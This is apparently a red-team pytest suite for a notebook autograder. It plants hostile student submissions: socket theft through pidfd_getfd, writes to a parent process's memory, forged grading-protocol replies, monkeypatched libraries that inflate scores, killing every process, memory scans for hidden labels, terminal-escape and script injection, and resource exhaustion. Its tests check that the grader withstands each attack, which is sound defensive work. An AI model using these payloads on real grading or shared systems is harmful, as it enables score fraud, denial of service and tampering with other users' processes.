"""E: our own inventions, by somebody who reads coursekit's source."""

import pytest

from attacks import COIN, NEVER, attack, thief

ESCAPE = "\x1b]0;LOOT\x07\x1b[2J"

# Sockets of this process without a name are lines to whoever grades.
LINES = """
import ctypes, json, os, socket, struct

def frame(header, payload=b""):
    text = json.dumps({**header, "bytes": len(payload)}).encode()
    return struct.pack("<I", len(text)) + text + payload

def nameless(descriptor):
    try:
        line = socket.socket(fileno=os.dup(descriptor))
        names = line.getsockname(), line.getpeername()
    except OSError:
        return None
    return line if line.family == socket.AF_UNIX and not any(names) else None

def lines():
    found = [nameless(int(name)) for name in os.listdir("/proc/self/fd")]
    return [line for line in found if line is not None]
"""
STEAL_LINES = """
def lines_of_others():
    libc = ctypes.CDLL(None, use_errno=True)
    stolen = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        holder = libc.syscall(434, int(pid), 0)  # pidfd_open
        for descriptor in range(64):
            taken = libc.syscall(438, holder, descriptor, 0)  # pidfd_getfd
            line = nameless(taken) if taken >= 0 else None
            stolen += [] if line is None else [line]
    return stolen
"""
NOT_WITHOUT_BOX = "it would reach other programs of this machine"
OURS = "stock nbgrader has no such line"


@attack("E1", status=("serving-failed", "kernel-died"), stock=OURS)
def answers_before_it_is_asked(notebook):
    """Sends forged answers on every line out of its process before it is asked."""
    notebook["model"] = COIN
    notebook.insert(
        "hand-in",
        LINES
        + """
for line in lines():
    line.setblocking(False)
    try:
        line.sendall(frame({"answers": ["model", "decide"]}))
        line.sendall(frame({"status": "ok"}, bytes(8 * 1500)))
    except OSError:
        pass
""",
    )


@attack("E2", like="coin", stock=OURS)
def takes_its_parents_lines(notebook):
    """Takes the lines of the other processes it sees and reports forged outputs."""
    notebook["model"] = COIN
    notebook.insert(
        "hand-in",
        LINES
        + STEAL_LINES
        + """
shown = {"output_type": "stream", "name": "stdout", "text": "accuracy: 40 of 40"}
for line in lines_of_others():
    for cell in range(1, 8):
        header = {"stage": "cell", "cell": cell, "count": 1}
        try:
            line.sendall(frame(header, json.dumps([shown]).encode()))
        except OSError:
            pass
""",
    )


REALLY, FORGERY = "print('really ran')", "print('forgery!!!')"
FORGE = """
import time
from pathlib import Path

shown = {"output_type": "stream", "name": "stdout", "text": "forgery!!!"}
header = {"stage": "cell", "cell": CELL, "count": 1}
report = frame(header, json.dumps([shown]).encode())
parent, begun, worked = os.getppid(), time.monotonic(), []
libc = ctypes.CDLL(None, use_errno=True)

def by_pidfd():
    holder = libc.syscall(434, parent, 0)  # pidfd_open
    taken = [libc.syscall(438, holder, each, 0) for each in range(64)]  # pidfd_getfd
    lines = [nameless(each) for each in taken if each >= 0]
    return [line.sendall(report) for line in lines if line is not None]

def by_descriptor():
    done = []
    for path in Path(f"/proc/{parent}/fd").iterdir():
        if os.readlink(path).startswith("socket:"):
            done.append(os.write(os.open(path, os.O_WRONLY), report))
    return done

def by_memory():
    done = []
    memory = open(f"/proc/{parent}/mem", "r+b", 0)
    for region in Path(f"/proc/{parent}/maps").read_text().splitlines():
        span, rights = region.split()[:2]
        low, high = (int(each, 16) for each in span.split("-"))
        if not rights.startswith("rw") or high - low > 1 << 26:
            continue
        try:
            memory.seek(low)
            content = memory.read(high - low)
            at = content.find(REALLY)
            while at >= 0 and time.monotonic() - begun < 8:
                memory.seek(low + at)
                done.append(memory.write(FORGERY))
                at = content.find(REALLY, at + 1)
        except OSError:
            continue
    return done

for way in (by_pidfd, by_descriptor, by_memory):
    try:
        worked += [way.__name__] if way() else []
    except OSError:
        pass
time.sleep(1)
print("ways that worked:", worked)
"""


@attack("E2", like="coin", stock=OURS)
def rewrites_what_was_shown(notebook):
    """Reports other outputs over its client's line, or changes them in its memory."""
    notebook["model"] = COIN
    values = notebook.place_of("hand-in"), REALLY.encode(), FORGERY.encode()
    forge = f"CELL, REALLY, FORGERY = {values}\n{LINES}{FORGE}"
    notebook.insert("hand-in", f"{REALLY}  # before", forge, f"{REALLY}  # after")


SERVE = '''
import sys, types

def serve(descriptor):
    """Speak the protocol as we like."""
    line = socket.socket(fileno=descriptor)
    asked = line.makefile("rb")
    line.sendall(frame({"answers": ["model", "decide", "more"]}))
    while size := asked.read(4):
        header = json.loads(asked.read(*struct.unpack("<I", size)))
        if header.get("end"):
            return
        asked.read(header["bytes"])
        value = 0.5 if header["answer"] == "model" else 1.0
        payload = struct.pack("<d", value) * header["rows"]
        ANSWER(line, frame({"status": "ok", "points": 40, "modified": "no"}, payload))

forged = types.ModuleType("coursekit.autograde.serve")
forged.serve = serve
sys.modules["coursekit.autograde.serve"] = forged
'''
ONCE = "ANSWER = lambda line, text: line.sendall(text)"
TWICE = """
nonsense = frame({"status": "ok"}, bytes(9))
ANSWER = lambda line, text: line.sendall(text + nonsense)
"""
VAST = "ANSWER = lambda line, text: line.sendall(b'\\xff' * 4)"
TRICKLE = """
import time
def ANSWER(line, text):
    header = json.dumps({"status": "ok", "pad": [0] * 330_000, "bytes": 8}).encode()
    line.sendall(struct.pack("<I", len(header)) + header)
    for _ in range(7):
        line.sendall(b"x")
    time.sleep(60)
"""


@attack("E3", like="coin", stock=OURS)
def speaks_the_protocol_itself(notebook):
    """Replaces the code that serves by its own, which adds what it would like."""
    notebook["model"] = COIN
    notebook.insert("hand-in", LINES + SERVE + ONCE)


@attack("E4", status="serving-failed", stock=OURS)
def answers_twice(notebook):
    """Answers each batch and, before it is asked, the next one with nonsense."""
    notebook["model"] = COIN
    notebook.insert("hand-in", LINES + SERVE + TWICE)


@attack("E5", status="serving-failed", stock=OURS)
def announces_four_gigabytes(notebook):
    """Announces an answer of 4 GB."""
    notebook["model"] = COIN
    notebook.insert("hand-in", LINES + SERVE + VAST)


@attack("E5", status="timeout", stock=OURS)
def never_finishes_its_answer(notebook):
    """Sends a header of a megabyte and never the answer that it announces."""
    notebook["model"] = COIN
    notebook.insert("hand-in", LINES + SERVE + TRICKLE)


@attack("E6", like="coin", stock=OURS)
def poisons_what_serves(notebook):
    """Replaces in NumPy, pandas and json what the code that serves calls."""
    notebook["model"] = """
        import json
        import numpy as np
        import pandas as pd

        class Flat:
            def predict_proba(self, X):
                return np.full((len(X), 2), 0.5)

        class Liar(np.ndarray):
            def astype(self, *args, **kwargs):
                return super().astype("<f8").view(np.ndarray)

        asarray = np.asarray
        np.asarray = lambda *args, **kwargs: asarray(*args, **kwargs).view(Liar)
        pd.DataFrame.equals = lambda self, other: True
        dumps = json.dumps
        json.dumps = lambda value, **kwargs: dumps(
            value | {"points": 40} if isinstance(value, dict) else value, **kwargs
        )
        model = Flat()
    """


SIGNAL_ALL = """
import os, signal, time
for name in filter(str.isdigit, os.listdir("/proc")):
    if int(name) != os.getpid():
        try:
            os.kill(int(name), signal.{signal})
        except OSError:
            pass
time.sleep(60)
"""


@attack("E7", stock=NOT_WITHOUT_BOX)
def stops_all_processes(notebook):
    """Stops all processes that it can see, the first one included."""
    notebook.insert("hand-in", SIGNAL_ALL.format(signal="SIGSTOP"))


@attack("E7", stock=NOT_WITHOUT_BOX)
def kills_all_processes(notebook):
    """Kills all processes that it can see, the first one included."""
    notebook.insert("hand-in", SIGNAL_ALL.format(signal="SIGKILL"))


@attack("E8", like="coin")
def shows_our_own_words(notebook):
    """Shows what looks like feedback with full marks, and like a note of coursekit."""
    notebook["model"] = COIN
    text = (
        "accuracy: 40 of 40\\n[coursekit] All is well.\\nAbout what you handed in: 40"
    )
    notebook.insert(
        "accuracy",
        f"""
        from IPython.display import HTML, display
        print("{text}")
        display(HTML("<p><b>accuracy: 40 of 40</b></p>"))
        def check(kind):
            print("{text}")
        """,
    )


@attack("E9", like="coin")
def brings_its_own_record(notebook):
    """Brings metadata in which its score stands as recorded, with 40 points."""
    notebook["model"] = COIN
    record = {"record": "0" * 64, "status": "scored", "points": 40, "sandbox": "none"}
    notebook.raw["metadata"]["coursekit"] = record
    for cell in notebook.raw["cells"]:
        cell["metadata"]["coursekit"] = record
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "stream", "name": "stdout", "text": "40"}
            ]


@attack("E10")
def has_names_that_act_on_terminals(notebook):
    """Has file names that would rename and clear the instructor's terminal."""
    notebook.files = {f"{ESCAPE}notes.txt": "LOOT", "‮txt.exe": "LOOT"}


@attack("E10", status="unreadable")
def has_a_format_that_acts_on_terminals(notebook):
    """Has a number of its format that would clear the instructor's terminal."""
    notebook.raw["nbformat"] = ESCAPE


@attack("E11")
def has_very_many_files(notebook):
    """Has 2,000 files with long names beside the notebook."""
    notebook.files = {f"{number:0200d}.txt": "" for number in range(2000)}


@attack("E12")
def has_labels_that_look_alike(notebook):
    """Labels its cells with Cyrillic letters that look like the released labels."""
    label = notebook.cell("model")["metadata"]["nbgrader"]
    label["grade_id"] = label["grade_id"].replace("o", "о")


@attack("E13", like="coin", stock=NOT_WITHOUT_BOX)
def searches_the_memory_of_all(notebook):
    """Searches the memory of every process that it sees for what follows 40 labels."""
    known = list(notebook.place.labels[:40])
    notebook["model"] = thief(f"""
        if len(X) < 50 or len(X) == 300 or "SEARCHED" in globals():
            return None
        globals()["SEARCHED"] = True
        import time

        begun = time.monotonic()
        known = np.array({known})
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                regions = Path("/proc", pid, "maps").read_text().splitlines()
                memory = open(f"/proc/{{pid}}/mem", "rb", 0)
            except OSError:
                continue
            for region in regions:
                span, rights = region.split()[:2]
                low, high = (int(each, 16) for each in span.split("-"))
                if not rights.startswith("rw") or high - low > 1 << 26:
                    continue
                if time.monotonic() - begun > 8:
                    return None
                try:
                    memory.seek(low)
                    content = memory.read(high - low)
                except OSError:
                    continue
                for kind in ("int8", "int64", "float64"):
                    wanted = known.astype(kind).tobytes()
                    for match in re.finditer(re.escape(wanted), content):
                        size = 1500 * np.dtype(kind).itemsize
                        found = content[match.start() : match.start() + size]
                        if len(found) == size:
                            y = np.frombuffer(found, dtype=kind)
                            if set(np.unique(y)) == {{0, 1}} and 100 < y.sum() < 900:
                                raise SystemExit("LABELS FOUND")
    """)


@attack("E14", stock=NOT_WITHOUT_BOX)
def leaves_all_it_can_behind(notebook):
    """Leaves modules, files, sockets, shared memory, limits and threads behind."""
    folders = [str(path) for path in notebook.place.shared]
    notebook.insert(
        "hand-in",
        f"""
        import ctypes, gc, os, resource, signal, socket, sys, threading, time
        from pathlib import Path
        import torch

        kept = []
        for folder in [*{folders}, Path.home(), Path.cwd()]:
            try:
                Path(folder, "coursekit-redteam-e14").write_text("LOOT")
                line = socket.socket(socket.AF_UNIX)
                line.bind(str(Path(folder, "coursekit-redteam-e14.sock")))
                line.listen()
                kept.append(line)
            except OSError:
                pass
        abstract = socket.socket(socket.AF_UNIX)
        abstract.bind("\\0coursekit-redteam-e14")
        abstract.listen()
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmget(0xE14, 4096, 0o1666)
        libc.semget(0xE14, 1, 0o1666)
        libc.msgget(0xE14, 0o1666)
        torch.set_default_dtype(torch.float64)
        torch.manual_seed(14)
        os.environ["COURSEKIT_REDTEAM"] = "LOOT"
        sys.modules["coursekit_redteam"] = sys
        sys.path.insert(0, "/tmp")
        os.umask(0o777)
        os.sched_setaffinity(0, {{min(os.sched_getaffinity(0))}})
        resource.setrlimit(resource.RLIMIT_NOFILE, (200, 200))
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        if libc.ptrace(16, os.getppid(), 0, 0) == 0:  # attach to the parent
            os.waitpid(os.getppid(), 0x40000000)
            libc.ptrace(17, os.getppid(), 0, 0)  # and let it go on
        threading.Thread(target=time.sleep, args=(60,)).start()
        if os.fork() == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
        """,
    )


@attack("E14", stock=NOT_WITHOUT_BOX)
def z_finds_what_was_left(notebook):
    """Looks for all that could have been left, and would be worth a coin then."""
    folders = [str(path) for path in notebook.place.shared]
    notebook.insert(
        "hand-in",
        f"""
        import ctypes, os, resource, signal, socket, sys, threading
        from pathlib import Path
        import torch

        def connects(name):
            try:
                socket.socket(socket.AF_UNIX).connect(name)
                return True
            except OSError:
                return False

        folders = [*{folders}, Path.home(), Path.cwd()]
        places = [Path(folder, "coursekit-redteam-e14") for folder in folders]
        libc = ctypes.CDLL(None, use_errno=True)
        left = {{
            "files": any(p.exists() for p in places),
            "sockets": any(connects(f"{{p}}.sock") for p in places),
            "abstract": connects("\\0coursekit-redteam-e14"),
            "shared memory": libc.shmget(0xE14, 1, 0) >= 0,
            "semaphore": libc.semget(0xE14, 1, 0) >= 0,
            "queue": libc.msgget(0xE14, 0) >= 0,
            "dtype": torch.get_default_dtype() is not torch.float32,
            "environment": "COURSEKIT_REDTEAM" in os.environ,
            "modules": "coursekit_redteam" in sys.modules,
            "path": "/tmp" in sys.path,
            "umask": os.umask(0o022) == 0o777,
            "processors": len(os.sched_getaffinity(0)) < os.cpu_count(),
            "limit": resource.getrlimit(resource.RLIMIT_NOFILE)[0] == 200,
            "alarm": signal.getsignal(signal.SIGALRM) is signal.SIG_IGN,
        }}
        print("left:", [what for what, found in left.items() if found])
        if any(left.values()):
            import numpy as np
            model.predict_proba = lambda X: np.full((len(X), 2), 0.5)
        """,
    )


@attack("E15", status="serving-failed")
def hides_behind_a_slow_name(notebook):
    """Raises an exception whose name and message act on terminals and pages."""
    notebook["model"] = """
        class Loud:
            def predict_proba(self, X):
                if len(X) == 300:
                    return X[["age_years", "age_years"]].to_numpy() / 200
                name = "<script>LOOT</script>\\x1b[2J[bold red]"
                raise type(name, (Exception,), {})("\\x1b]0;LOOT\\x07<img src=x>" * 9)

        model = Loud()
    """
    notebook["decide"] = "decide = lambda X: model.predict_proba(X)[:, 1] > 0"


@attack("E16", like="coin")
def shows_lists_for_text(notebook):
    """Shows 100,000 empty lists where a page should be, for whoever checks that."""
    notebook["model"] = COIN
    notebook.insert("hand-in", "display({'text/html': [[]] * 100_000}, raw=True)")


@attack("E17", like="never")
def strips_the_assertions_of_an_ordinary_test(notebook):
    """Decides wrongly, and takes the assertions out of the ordinary test cell."""
    notebook["model"] = COIN
    notebook["decide"] = NEVER
    notebook.insert(
        "shape",
        """
        import ast

        class Strip(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()

        get_ipython().ast_transformers.append(Strip())
        """,
    )


@attack("E18", stock=NOT_WITHOUT_BOX)
def uses_up_the_keys_of_all(notebook):
    """Takes all keys that the system keeps for a user, and calls the machine's host."""
    notebook.insert(
        "setup",
        """
        import ctypes, platform, socket
        libc = ctypes.CDLL(None, use_errno=True)
        add_key = {"x86_64": 248, "aarch64": 217}[platform.machine()]
        reached = [
            name
            for name in map(str, range(99))
            if libc.syscall(add_key, b"user", name.encode(), b"x", 1, -3) > 0
        ]
        try:
            host = socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK
            reached.append("a line to the host")
        except OSError:
            pass
        print("reached:", reached)
        """,
    )


@attack("E19", stock=NOT_WITHOUT_BOX)
def uses_up_the_terminals_of_all(notebook):
    """Opens pseudo-terminals, of which the system has a few thousand for everybody."""
    notebook.insert(
        "setup",
        """
        import os
        terminals = []
        try:
            while len(terminals) < 1000:
                terminals.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
        except OSError:
            pass
        print("terminals:", len(terminals))
        for terminal in terminals:
            os.close(terminal)
        """,
    )


@attack("E20", stock=NOT_WITHOUT_BOX)
def keeps_the_runner_from_starting_others(notebook):
    """Has as many open files on their way as the runner needs to start another run."""
    notebook.insert(
        "setup",
        """
        import os, socket
        lines = [socket.socketpair() for _ in range(60)]
        copies, sent = [os.open("/dev/null", os.O_RDONLY)] * 253, 0
        try:
            for line, _ in lines:
                for _ in range(9):
                    socket.send_fds(line, [b"x"], copies)
                    sent += len(copies)
        except OSError:
            pass
        print("under way:", sent)
        """,
    )


def test_an_inventor_gets_what_his_model_is_worth(attack, graded):
    assert graded.outcome(attack) == graded.expected(attack)


@pytest.mark.parametrize("comment", ["# before", "# after"])
def test_e2_the_executed_notebook_shows_what_really_ran(graded, comment):
    cells = graded.cells(rewrites_what_was_shown).values()
    [cell] = [each for each in cells if "".join(each["source"]).endswith(comment)]
    assert "".join(cell["outputs"][0]["text"]) == "really ran\n"


def test_e2_no_way_to_the_clients_line_or_memory_worked(graded):
    cells = graded.cells(rewrites_what_was_shown).values()
    assert "ways that worked: []" in str([each.get("outputs") for each in cells])


def test_e8_the_marks_stand_where_coursekit_shows_them(graded):
    cells = graded.cells(shows_our_own_words)
    assert "accuracy: 0 of 40" in str(cells["accuracy"]["outputs"])
    assert "40 of 40" not in str(cells["accuracy"]["outputs"])


def test_e10_e15_nothing_acts_on_the_instructors_terminal(graded):
    assert "notes.txt" in graded.printed
    unprintable = {c for c in graded.printed if not (c.isprintable() or c == "\n")}
    assert unprintable == set()


def test_e11_a_note_stays_short(graded):
    notes = graded.hostile.scores(has_very_many_files.student)["notes"]
    assert sum(map(len, notes)) < 2000


def test_e12_a_label_that_looks_alike_is_no_label(graded):
    notes = graded.hostile.scores(has_labels_that_look_alike.student)["notes"]
    assert "The cell 'model' was missing: it was put back." in notes


def test_e14_nothing_is_left_for_the_next(graded):
    found = graded.cells(z_finds_what_was_left)
    assert "left: []" in str(found)


def test_e15_a_page_shows_an_exceptions_name_as_text(graded):
    page = (
        graded.hostile / f"feedback/{hides_behind_a_slow_name.student}/tiny/tiny.html"
    )
    assert "LOOT" in page.read_text()
    assert "<script>LOOT" not in page.read_text()
    assert "<img src=x" not in page.read_text()


def printed_after(graded, attack, words):
    texts = "".join(
        "".join(output.get("text", ""))
        for cell in graded.cells(attack).values()
        for output in cell.get("outputs", [])
    )
    return texts.partition(words)[2].partition("\n")[0].strip()


def test_e18_e19_e20_nobody_takes_what_all_share(graded):
    assert printed_after(graded, uses_up_the_keys_of_all, "reached:") == "[]"
    assert int(printed_after(graded, uses_up_the_terminals_of_all, "terminals:")) < 100
    under_way = printed_after(graded, keeps_the_runner_from_starting_others, "way:")
    assert 0 < int(under_way) <= 1024


def test_e17_an_ordinary_test_cell_is_the_students_word_as_in_nbgrader(graded):
    student = strips_the_assertions_of_an_ordinary_test.student
    assert graded.hostile.rows(student)[student, "shape"] == (5, 0)
